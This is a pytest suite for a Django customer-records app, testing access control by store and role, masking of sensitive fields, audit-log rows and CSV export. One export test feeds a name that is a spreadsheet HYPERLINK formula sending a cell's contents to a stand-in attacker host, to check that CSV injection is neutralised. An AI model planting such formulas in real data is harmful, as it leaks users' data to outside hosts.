"""The customer pages: who gets what, what each request writes, and how many queries it costs."""

import csv
import io
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from customers.models import Customer
from privacy.masking import MASK
from privacy.models import AccessLog
from tests.factories import AccountManagerFactory, CustomerFactory, StoreFactory, UserFactory

LIST_URL = reverse("customers:customer-list")
CREATE_URL = reverse("customers:customer-create")
EXPORT_URL = reverse("customers:customer-export")
# Measured, and constant in the number of customers shown (see the tests below).
LIST_QUERIES = 12  # + tier and segment filter choices (segmentation); the page is two: its ids, then its rows
# The 360° page: every panel in a fixed number of queries
# (+3 segmentation badges and tier moves, +2 complaints, +4 consent card, +2 churn panel, +1 remedies panel,
# +2 loyalty points panel).
DETAIL_QUERIES = 36


def detail_url(customer):
    return reverse("customers:customer-detail", kwargs={"pk": customer.pk})


def update_url(customer):
    return reverse("customers:customer-update", kwargs={"pk": customer.pk})


def login_redirect(url):
    return f"/login/?next={url}"


def form_data(**overrides) -> dict:
    """A valid customer form, as the browser posts it."""
    data = {
        "kind": "person",
        "salutation": "",
        "name_en": "Lam Ka Ho",
        "name_zh": "林家豪",
        "mobile_phone": "6123 4567",
        "email": "ka.ho@example.com",
        "address": "",
        "district": "",
        "birth_month": "",
        "birth_day": "",
        "birth_year": "",
        "preferred_language": "en",
        "preferred_channel": "phone",
        "home_store": "",
        "account_manager": "",
        "acquisition_source": "walk_in",
        "notes": "",
    }
    data.update(overrides)
    return data


def form_data_of(customer, **overrides) -> dict:
    """The edit form of ``customer`` as the browser posts it back."""
    data = form_data(
        kind=customer.kind,
        salutation=customer.salutation,
        name_en=customer.name_en,
        name_zh=customer.name_zh,
        mobile_phone=customer.mobile_phone,
        email=customer.email,
        address=customer.address,
        district=customer.district,
        birth_month=customer.birth_month or "",
        birth_day=customer.birth_day or "",
        birth_year=customer.birth_year or "",
        preferred_language=customer.preferred_language,
        preferred_channel=customer.preferred_channel,
        home_store=customer.home_store_id,
        account_manager=customer.account_manager_id or "",
        acquisition_source=customer.acquisition_source,
        notes=customer.notes,
    )
    data.update(overrides)
    return data


def snapshot(customer) -> dict:
    """Every column of the customer's row, read back from the database."""
    return Customer.objects.filter(pk=customer.pk).values().get()


def listed(response) -> list:
    return list(response.context["customers"])


@pytest.fixture
def customer(central, manager):
    """conftest's ``customer`` with a valid phone number, an address and a birthday.

    CustomerFactory's default numbers (``+85290000001``…) are not valid Hong Kong
    numbers, and the edit form re-validates the stored number.
    """
    return CustomerFactory(
        home_store=central,
        account_manager=manager,
        name_en="Chan Tai Man",
        name_zh="陳大文",
        mobile_phone="+85291234567",
        email="tai.man@example.com",
        address="Flat A, 12/F, 88 Des Voeux Road Central",
        district="central_western",
        birth_month=3,
        birth_day=12,
        birth_year=1980,
    )


@pytest.fixture
def colleague_customer(central, colleague):
    return CustomerFactory(
        home_store=central, account_manager=colleague, name_en="Wong Siu Ming", mobile_phone="+85261112222"
    )


@pytest.fixture
def tst_customer(tst, other_manager):
    return CustomerFactory(
        home_store=tst,
        account_manager=other_manager,
        name_en="Ho Wing Kei",
        name_zh="何詠琪",
        mobile_phone="+85251112222",
    )


@pytest.fixture
def nobody(central):
    """A staff member of Central with no role."""
    return UserFactory(username="no-role", stores=[central])


# --- list ---------------------------------------------------------------------


def test_list_shows_an_account_manager_the_customers_of_their_store(
    client, manager, customer, colleague_customer, tst_customer
):
    # given
    client.force_login(manager)
    # when
    response = client.get(LIST_URL)
    # then
    assert response.status_code == 200
    assert listed(response) == [customer, colleague_customer]
    assert "Chan Tai Man" in response.text
    assert "Ho Wing Kei" not in response.text


def test_list_does_not_show_another_stores_customer(client, other_manager, customer, tst_customer):
    # given
    client.force_login(other_manager)
    # when
    response = client.get(LIST_URL)
    # then
    assert response.status_code == 200
    assert listed(response) == [tst_customer]
    assert "Chan Tai Man" not in response.text
    assert "陳大文" not in response.text


def test_list_is_404_for_a_user_without_a_role(client, nobody, customer):
    # given
    client.force_login(nobody)
    # when
    response = client.get(LIST_URL)
    # then
    assert response.status_code == 404
    assert "Chan Tai Man" not in response.text


def test_list_redirects_anonymous_users_to_login(client, customer):
    # given / when
    response = client.get(LIST_URL)
    # then
    assert response.status_code == 302
    assert response["Location"] == login_redirect(LIST_URL)


def test_list_filters_by_store(client, admin_user, customer, tst_customer, tst):
    # given
    client.force_login(admin_user)
    # when
    response = client.get(LIST_URL, {"store": tst.pk})
    # then
    assert response.status_code == 200
    assert listed(response) == [tst_customer]


def test_list_filters_by_account_manager(client, supervisor, colleague, customer, colleague_customer):
    # given
    client.force_login(supervisor)
    # when
    response = client.get(LIST_URL, {"manager": colleague.pk})
    # then
    assert response.status_code == 200
    assert listed(response) == [colleague_customer]


def test_list_filters_corporate_accounts(client, supervisor, customer, central):
    # given a company among the people
    company = CustomerFactory(home_store=central, kind="company", name_en="Harbour Trading Ltd", name_zh="")
    client.force_login(supervisor)
    # when
    response = client.get(LIST_URL, {"kind": "company"})
    # then
    assert response.status_code == 200
    assert listed(response) == [company]
    assert '<option value="company" selected>' in response.text


@pytest.mark.parametrize(
    ("q", "expected"),
    [("chan", "customer"), ("小明", "colleague"), ("9123 4567", "customer"), ("+85261112222", "colleague")],
)
def test_list_searches_with_q(client, supervisor, customer, colleague_customer, q, expected):
    # given
    colleague_customer.name_zh = "黃小明"
    colleague_customer.save()
    client.force_login(supervisor)
    # when
    response = client.get(LIST_URL, {"q": q})
    # then
    assert response.status_code == 200
    assert listed(response) == [{"customer": customer, "colleague": colleague_customer}[expected]]


def test_list_search_does_not_reach_another_store(client, manager, customer, tst_customer):
    # given
    client.force_login(manager)
    # when
    response = client.get(LIST_URL, {"q": "Ho Wing"})
    # then
    assert response.status_code == 200
    assert listed(response) == []


def make_customers(count: int) -> None:
    """``count`` customers, each in its own store with its own account manager."""
    for i in range(count):
        store = StoreFactory()
        CustomerFactory(
            home_store=store,
            account_manager=AccountManagerFactory(stores=[store]),
            name_en=f"Customer {i:02d}",
        )


def test_list_queries_do_not_grow_with_the_page_size(client, admin_user):
    # given an admin, who sees every store
    client.force_login(admin_user)
    make_customers(3)
    # when
    with CaptureQueriesContext(connection) as few:
        small = client.get(LIST_URL)
    make_customers(22)
    with CaptureQueriesContext(connection) as many:
        full = client.get(LIST_URL)
    # then
    assert len(listed(small)) == 3
    assert len(listed(full)) == 25
    assert len(many.captured_queries) == len(few.captured_queries)


@pytest.mark.parametrize("user_fixture", ["admin_user", "supervisor", "manager"])
def test_list_query_count(client, django_assert_num_queries, request, central, user_fixture):
    # given a full page of customers with their own managers
    user = request.getfixturevalue(user_fixture)
    for i in range(25):
        CustomerFactory(
            home_store=central,
            account_manager=AccountManagerFactory(stores=[central]),
            name_en=f"Customer {i:02d}",
        )
    client.force_login(user)
    # when / then: session, user, two permission lookups, roles, filter stores,
    # filter managers, count, the page's ids, its rows
    with django_assert_num_queries(LIST_QUERIES):
        response = client.get(LIST_URL)
    assert len(listed(response)) == 25


# --- detail -------------------------------------------------------------------


def test_detail_shows_a_customer_and_writes_one_view_access_row(client, manager, customer):
    # given
    client.force_login(manager)
    # when
    response = client.get(detail_url(customer))
    # then
    assert response.status_code == 200
    assert response.context["customer"] == customer
    assert response.context["can_edit"] is True
    rows = list(AccessLog.objects.values_list("user_id", "customer_id", "action", "view_name", "path"))
    assert rows == [(manager.pk, customer.pk, AccessLog.Action.VIEW, "customers:customer-detail", detail_url(customer))]


def test_detail_is_visible_to_a_colleague_without_an_edit_button(client, colleague, customer):
    # given
    client.force_login(colleague)
    # when
    response = client.get(detail_url(customer))
    # then
    assert response.status_code == 200
    assert response.context["can_edit"] is False
    assert update_url(customer) not in response.text
    assert AccessLog.objects.filter(user=colleague, customer=customer, action=AccessLog.Action.VIEW).count() == 1


def test_detail_is_404_for_another_stores_manager_and_logs_nothing(client, other_manager, customer):
    # given
    client.force_login(other_manager)
    # when
    response = client.get(detail_url(customer))
    # then
    assert response.status_code == 404
    assert "Chan Tai Man" not in response.text
    assert AccessLog.objects.count() == 0


def test_detail_of_a_missing_customer_is_the_same_404(client, manager, customer):
    # given
    client.force_login(manager)
    # when
    response = client.get(reverse("customers:customer-detail", kwargs={"pk": customer.pk + 1000}))
    # then
    assert response.status_code == 404
    assert AccessLog.objects.count() == 0


def test_detail_is_404_for_a_user_without_a_role(client, nobody, customer):
    # given
    client.force_login(nobody)
    # when
    response = client.get(detail_url(customer))
    # then
    assert response.status_code == 404
    assert AccessLog.objects.count() == 0


def test_detail_redirects_anonymous_users_to_login(client, customer):
    # given / when
    response = client.get(detail_url(customer))
    # then
    assert response.status_code == 302
    assert response["Location"] == login_redirect(detail_url(customer))
    assert AccessLog.objects.count() == 0


def test_detail_redirects_an_inactive_user_to_login(client, manager, customer):
    # given a manager who has left since signing in
    client.force_login(manager)
    manager.is_active = False
    manager.save()
    # when
    response = client.get(detail_url(customer))
    # then
    assert response.status_code == 302
    assert response["Location"] == login_redirect(detail_url(customer))
    assert AccessLog.objects.count() == 0


def sensitive_cells(response) -> dict:
    cells = {}
    for name in ("address", "birthday"):
        match = re.search(rf'data-testid="{name}">(.*?)</dd>', response.text, re.DOTALL)
        assert match, f"no {name} cell on the page"
        cells[name] = match.group(1)
    return cells


def test_detail_masks_address_and_birthday_for_an_account_manager(client, manager, customer):
    # given an account manager, who lacks privacy.view_sensitive
    assert not manager.has_perm("privacy.view_sensitive")
    client.force_login(manager)
    # when
    response = client.get(detail_url(customer))
    # then
    cells = sensitive_cells(response)
    assert cells["address"].startswith(MASK)
    assert cells["birthday"] == MASK
    assert "Des Voeux" not in response.text
    assert "12 Mar" not in response.text


def test_detail_shows_address_and_birthday_to_a_supervisor(client, supervisor, customer):
    # given
    client.force_login(supervisor)
    # when
    response = client.get(detail_url(customer))
    # then
    cells = sensitive_cells(response)
    assert cells["address"].startswith("Flat A, 12/F, 88 Des Voeux Road Central")
    assert cells["birthday"] == "12 Mar 1980"
    assert MASK not in response.text


def test_detail_shows_nothing_masked_when_there_is_nothing_to_hide(client, manager, central):
    # given a customer without address or birthday
    bare = CustomerFactory(home_store=central, account_manager=manager, name_en="Bare", address="", district="")
    client.force_login(manager)
    # when
    response = client.get(detail_url(bare))
    # then
    assert sensitive_cells(response) == {"address": "—", "birthday": "—"}


def test_detail_query_count_is_constant(client, django_assert_num_queries, manager, customer, central):
    # given a busy customer: many earlier views, and many other customers
    client.force_login(manager)
    with CaptureQueriesContext(connection) as first:
        client.get(detail_url(customer))
    for _ in range(20):
        client.get(detail_url(customer))
    make_customers(10)
    # when / then: session, user, roles, customer, access-log insert, two
    # permission lookups, can-edit check
    with django_assert_num_queries(DETAIL_QUERIES):
        response = client.get(detail_url(customer))
    assert response.status_code == 200
    assert len(first.captured_queries) == DETAIL_QUERIES


# --- create -------------------------------------------------------------------


def test_create_form_is_shown_to_an_account_manager(client, manager, central):
    # given
    client.force_login(manager)
    # when
    response = client.get(CREATE_URL)
    # then
    assert response.status_code == 200
    form = response.context["form"]
    assert form.initial["home_store"] == central.pk
    assert form.initial["account_manager"] == manager.pk
    assert form.fields["account_manager"].disabled is True


def test_create_saves_the_customer_and_writes_one_create_row(client, manager, central):
    # given
    client.force_login(manager)
    # when
    response = client.post(CREATE_URL, form_data(home_store=central.pk, email="Ka.Ho@Example.com"))
    # then
    customer = Customer.objects.get()
    assert response.status_code == 302
    assert response["Location"] == detail_url(customer)
    assert (customer.name_en, customer.mobile_phone, customer.email) == (
        "Lam Ka Ho",
        "+85261234567",
        "ka.ho@example.com",
    )
    assert customer.home_store == central
    rows = list(AccessLog.objects.values_list("user_id", "customer_id", "action", "view_name"))
    assert rows == [(manager.pk, customer.pk, AccessLog.Action.CREATE, "customers:customer-create")]


def test_create_by_an_account_manager_lands_in_their_own_book(client, manager, colleague, central):
    # given an account manager who tries to give the customer to a colleague
    client.force_login(manager)
    # when
    response = client.post(CREATE_URL, form_data(home_store=central.pk, account_manager=colleague.pk))
    # then
    assert response.status_code == 302
    assert Customer.objects.get().account_manager == manager


def test_create_by_a_supervisor_may_assign_an_account_manager(client, supervisor, colleague, central):
    # given
    client.force_login(supervisor)
    # when
    response = client.post(CREATE_URL, form_data(home_store=central.pk, account_manager=colleague.pk))
    # then
    assert response.status_code == 302
    assert Customer.objects.get().account_manager == colleague


def test_create_in_another_store_is_refused_and_creates_nothing(client, manager, tst):
    # given
    client.force_login(manager)
    # when
    response = client.post(CREATE_URL, form_data(home_store=tst.pk))
    # then
    assert response.status_code == 200
    assert list(response.context["form"].errors) == ["home_store"]
    assert Customer.objects.count() == 0
    assert AccessLog.objects.count() == 0


def test_create_with_a_bad_phone_shows_the_field_error_and_creates_nothing(client, manager, central):
    # given
    client.force_login(manager)
    # when
    response = client.post(CREATE_URL, form_data(home_store=central.pk, mobile_phone="1234"))
    # then
    assert response.status_code == 200
    form = response.context["form"]
    assert list(form.errors) == ["mobile_phone"]
    assert form.errors["mobile_phone"] == [
        "“1234” is not a valid phone number. Enter e.g. 9123 4567 or +852 9123 4567."
    ]
    assert "is not a valid phone number" in response.text
    assert Customer.objects.count() == 0
    assert AccessLog.objects.count() == 0


def test_create_with_an_impossible_month_shows_a_field_error_and_creates_nothing(client, manager, central):
    # given a mistyped birthday: month 13
    client.force_login(manager)
    # when
    response = client.post(CREATE_URL, form_data(home_store=central.pk, birth_month="13", birth_day="1"))
    # then: the form explains, rather than a server error
    assert response.status_code == 200
    assert "birth_month" in response.context["form"].errors
    assert Customer.objects.count() == 0
    assert AccessLog.objects.count() == 0


def test_create_with_a_duplicate_phone_warns_and_creates_nothing(client, manager, central, customer):
    # given a customer whose number is typed again in another format
    client.force_login(manager)
    before = Customer.objects.count()
    # when
    response = client.post(CREATE_URL, form_data(home_store=central.pk, mobile_phone="9123 4567"))
    # then
    assert response.status_code == 200
    form = response.context["form"]
    assert [e.code for e in form.non_field_errors().as_data()] == ["duplicate"]
    assert form.duplicates == [customer]
    assert 'data-testid="duplicates"' in response.text
    assert "Chan Tai Man" in response.text
    assert Customer.objects.count() == before
    assert AccessLog.objects.filter(action=AccessLog.Action.CREATE).count() == 0


def test_create_with_a_duplicate_email_warns_and_creates_nothing(client, manager, central, customer):
    # given
    client.force_login(manager)
    before = Customer.objects.count()
    # when
    response = client.post(CREATE_URL, form_data(home_store=central.pk, email="TAI.MAN@example.com"))
    # then
    assert response.status_code == 200
    assert [e.code for e in response.context["form"].non_field_errors().as_data()] == ["duplicate"]
    assert Customer.objects.count() == before


def test_create_with_a_duplicate_saves_once_confirmed(client, manager, central, customer):
    # given
    client.force_login(manager)
    # when
    response = client.post(
        CREATE_URL, form_data(home_store=central.pk, mobile_phone="9123 4567", confirm_duplicate="on")
    )
    # then
    assert response.status_code == 302
    assert Customer.objects.filter(mobile_phone="+85291234567").count() == 2
    created = Customer.objects.exclude(pk=customer.pk).get()
    assert created.name_en == "Lam Ka Ho"
    assert AccessLog.objects.filter(customer=created, action=AccessLog.Action.CREATE).count() == 1


def test_create_with_a_duplicate_in_another_store_warns_without_naming_it(client, other_manager, tst, customer):
    # given the duplicate is a Central customer the Tsim Sha Tsui manager may not see
    client.force_login(other_manager)
    before = Customer.objects.count()
    # when
    response = client.post(CREATE_URL, form_data(home_store=tst.pk, mobile_phone="9123 4567"))
    # then
    assert response.status_code == 200
    assert [e.code for e in response.context["form"].non_field_errors().as_data()] == ["duplicate"]
    assert response.context["form"].duplicates == []
    assert "Chan Tai Man" not in response.text
    assert "陳大文" not in response.text
    assert Customer.objects.count() == before


def test_create_is_404_for_a_user_without_a_role(client, nobody, central):
    # given
    client.force_login(nobody)
    # when
    get = client.get(CREATE_URL)
    post = client.post(CREATE_URL, form_data(home_store=central.pk))
    # then
    assert get.status_code == 404
    assert post.status_code == 404
    assert Customer.objects.count() == 0
    assert AccessLog.objects.count() == 0


def test_create_is_404_for_a_privacy_officer(client, privacy_officer, central):
    # given a privacy officer, who has no customers.add_customer
    client.force_login(privacy_officer)
    # when
    response = client.post(CREATE_URL, form_data(home_store=central.pk))
    # then
    assert response.status_code == 404
    assert Customer.objects.count() == 0


def test_create_redirects_anonymous_users_to_login(client, central):
    # given / when
    get = client.get(CREATE_URL)
    post = client.post(CREATE_URL, form_data(home_store=central.pk))
    # then
    assert get.status_code == 302
    assert get["Location"] == login_redirect(CREATE_URL)
    assert post.status_code == 302
    assert post["Location"] == login_redirect(CREATE_URL)
    assert Customer.objects.count() == 0


# --- update -------------------------------------------------------------------


def test_update_form_is_shown_to_the_account_manager(client, manager, customer):
    # given
    client.force_login(manager)
    # when
    response = client.get(update_url(customer))
    # then
    assert response.status_code == 200
    assert response.context["customer"] == customer
    assert "confirm_duplicate" not in response.context["form"].fields


def test_update_form_hides_sensitive_fields_from_an_account_manager_and_logs_the_read(client, manager, customer):
    # given a customer with an address, and their account manager (no privacy.view_sensitive)
    Customer.objects.filter(pk=customer.pk).update(address="Flat 3A, 1 Robinson Road", birth_month=5, birth_day=4)
    client.force_login(manager)
    # when they open the edit form
    response = client.get(update_url(customer))
    # then the sensitive fields are not in it, and the read is logged
    assert response.status_code == 200
    assert not {"address", "birth_month", "birth_day", "birth_year"} & set(response.context["form"].fields)
    assert "Robinson Road" not in response.content.decode()
    rows = list(AccessLog.objects.values_list("user_id", "customer_id", "action", "view_name"))
    assert rows == [(manager.pk, customer.pk, AccessLog.Action.VIEW, "customers:customer-update")]


def test_update_form_shows_sensitive_fields_to_a_supervisor(client, supervisor, customer):
    Customer.objects.filter(pk=customer.pk).update(address="Flat 3A, 1 Robinson Road")
    client.force_login(supervisor)
    response = client.get(update_url(customer))
    assert {"address", "birth_month", "birth_day", "birth_year"} <= set(response.context["form"].fields)
    assert "Robinson Road" in response.content.decode()


def test_update_saves_the_change_and_writes_one_edit_row(client, manager, customer):
    # given
    client.force_login(manager)
    # when
    response = client.post(update_url(customer), form_data_of(customer, notes="Collects Omega", email="New@Mail.hk"))
    # then
    assert response.status_code == 302
    assert response["Location"] == detail_url(customer)
    customer.refresh_from_db()
    assert customer.notes == "Collects Omega"
    assert customer.email == "new@mail.hk"
    assert customer.account_manager == manager
    rows = list(AccessLog.objects.values_list("user_id", "customer_id", "action", "view_name", "reason"))
    assert rows == [(manager.pk, customer.pk, AccessLog.Action.EDIT, "customers:customer-update", "email, notes")]


def test_update_by_an_account_manager_cannot_hand_the_customer_over(client, manager, colleague, customer):
    # given
    client.force_login(manager)
    # when
    response = client.post(update_url(customer), form_data_of(customer, account_manager=colleague.pk))
    # then
    assert response.status_code == 302
    customer.refresh_from_db()
    assert customer.account_manager == manager


def test_update_by_a_supervisor_of_the_store(client, supervisor, colleague, customer):
    # given
    client.force_login(supervisor)
    # when
    response = client.post(update_url(customer), form_data_of(customer, account_manager=colleague.pk))
    # then
    assert response.status_code == 302
    customer.refresh_from_db()
    assert customer.account_manager == colleague
    assert AccessLog.objects.filter(user=supervisor, action=AccessLog.Action.EDIT).count() == 1


def test_update_with_a_bad_phone_shows_the_error_and_changes_nothing(client, manager, customer):
    # given
    client.force_login(manager)
    before = snapshot(customer)
    # when
    response = client.post(update_url(customer), form_data_of(customer, mobile_phone="abc", notes="changed"))
    # then
    assert response.status_code == 200
    assert list(response.context["form"].errors) == ["mobile_phone"]
    assert snapshot(customer) == before
    assert AccessLog.objects.count() == 0


def test_update_by_a_colleague_is_404_and_changes_nothing(client, colleague, customer):
    # given a colleague in the same store, who may see but not edit the customer
    client.force_login(colleague)
    before = snapshot(customer)
    # when
    get = client.get(update_url(customer))
    post = client.post(update_url(customer), form_data_of(customer, notes="mine now", account_manager=colleague.pk))
    # then
    assert get.status_code == 404
    assert post.status_code == 404
    assert snapshot(customer) == before
    assert AccessLog.objects.count() == 0


def test_update_by_another_stores_manager_is_404_and_changes_nothing(client, other_manager, customer):
    # given
    client.force_login(other_manager)
    before = snapshot(customer)
    # when
    get = client.get(update_url(customer))
    post = client.post(update_url(customer), form_data_of(customer, name_en="Somebody Else"))
    # then
    assert get.status_code == 404
    assert "Chan Tai Man" not in get.text
    assert post.status_code == 404
    assert snapshot(customer) == before
    assert AccessLog.objects.count() == 0


def test_update_is_404_for_a_user_without_a_role(client, nobody, customer):
    # given
    client.force_login(nobody)
    before = snapshot(customer)
    # when
    response = client.post(update_url(customer), form_data_of(customer, notes="x"))
    # then
    assert response.status_code == 404
    assert snapshot(customer) == before
    assert AccessLog.objects.count() == 0


def test_update_redirects_anonymous_users_to_login(client, customer):
    # given
    before = snapshot(customer)
    # when
    get = client.get(update_url(customer))
    post = client.post(update_url(customer), form_data_of(customer, notes="x"))
    # then
    assert get.status_code == 302
    assert get["Location"] == login_redirect(update_url(customer))
    assert post.status_code == 302
    assert post["Location"] == login_redirect(update_url(customer))
    assert snapshot(customer) == before


# --- export -------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def test_export_gives_a_supervisor_a_csv_of_the_visible_customers(
    client, supervisor, customer, colleague_customer, tst_customer
):
    # given
    client.force_login(supervisor)
    # when
    response = client.get(EXPORT_URL)
    # then
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="customers-\d{8}-\d{4}\.csv"', response["Content-Disposition"])
    rows = read_csv(response)
    assert rows[0] == ["id", "name_en", "name_zh", "mobile_phone", "email", "district", "home_store", "account_manager"]
    assert rows[1] == [
        str(customer.pk),
        "Chan Tai Man",
        "陳大文",
        "+85291234567",
        "tai.man@example.com",
        "Central and Western",
        "Central",
        str(customer.account_manager),
    ]
    assert [row[0] for row in rows[1:]] == [str(customer.pk), str(colleague_customer.pk)]
    assert "Ho Wing Kei" not in response.content.decode()


def test_export_writes_one_export_row_per_exported_customer(
    client, supervisor, customer, colleague_customer, tst_customer
):
    # given
    client.force_login(supervisor)
    # when
    client.get(EXPORT_URL)
    # then
    rows = sorted(AccessLog.objects.values_list("user_id", "customer_id", "action", "view_name", "path"))
    assert rows == sorted(
        [
            (supervisor.pk, customer.pk, AccessLog.Action.EXPORT, "customers:customer-export", EXPORT_URL),
            (supervisor.pk, colleague_customer.pk, AccessLog.Action.EXPORT, "customers:customer-export", EXPORT_URL),
        ]
    )


def test_export_follows_the_list_filters(client, supervisor, customer, colleague_customer):
    # given
    client.force_login(supervisor)
    # when
    response = client.get(EXPORT_URL, {"q": "chan"})
    # then
    rows = read_csv(response)
    assert [row[0] for row in rows[1:]] == [str(customer.pk)]
    assert list(AccessLog.objects.values_list("customer_id", "path")) == [(customer.pk, EXPORT_URL)]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&B2,"Click")', "@SUM(1+1)", "-2+3"])
def test_export_does_not_hand_excel_a_formula(client, supervisor, central, name):
    # given a customer whose name was typed (or imported) as a spreadsheet formula
    CustomerFactory(home_store=central, name_en=name, name_zh="", mobile_phone="+85261234567")
    client.force_login(supervisor)
    # when
    response = client.get(EXPORT_URL)
    # then: the exported cell cannot be read as a formula (OWASP "CSV injection")
    rows = read_csv(response)
    assert len(rows) == 2
    assert not rows[1][1].startswith(("=", "+", "-", "@")), rows[1][1]
    assert name in rows[1][1]


def test_export_is_404_for_an_account_manager_and_logs_nothing(client, manager, customer):
    # given an account manager, who lacks privacy.export_personal_data
    client.force_login(manager)
    # when
    response = client.get(EXPORT_URL)
    # then
    assert response.status_code == 404
    assert "Chan Tai Man" not in response.text
    assert AccessLog.objects.count() == 0


def test_export_is_404_for_a_user_without_a_role(client, nobody, customer):
    # given
    client.force_login(nobody)
    # when
    response = client.get(EXPORT_URL)
    # then
    assert response.status_code == 404
    assert AccessLog.objects.count() == 0


def test_export_redirects_anonymous_users_to_login(client, customer):
    # given / when
    response = client.get(EXPORT_URL)
    # then
    assert response.status_code == 302
    assert response["Location"] == login_redirect(EXPORT_URL)
    assert AccessLog.objects.count() == 0


def test_list_offers_export_only_to_those_who_may_export(client, manager, supervisor, customer):
    # given / when
    client.force_login(manager)
    as_manager = client.get(LIST_URL)
    client.force_login(supervisor)
    as_supervisor = client.get(LIST_URL)
    # then
    assert as_manager.context["can_export"] is False
    assert EXPORT_URL not in as_manager.text
    assert as_supervisor.context["can_export"] is True
    assert EXPORT_URL in as_supervisor.text


def test_list_applies_the_valid_filters_when_another_is_not_a_choice(client, manager, customer, central):
    # given two customers and a search that matches one of them
    CustomerFactory(home_store=central, name_en="Ho Wing Kei", name_zh="")
    client.force_login(manager)
    # when the manager filter names somebody the user cannot pick
    response = client.get(LIST_URL, {"q": "Chan Tai", "manager": "999999"})
    # then the search still applies
    assert response.status_code == 200
    assert [c.pk for c in response.context["customers"]] == [customer.pk]
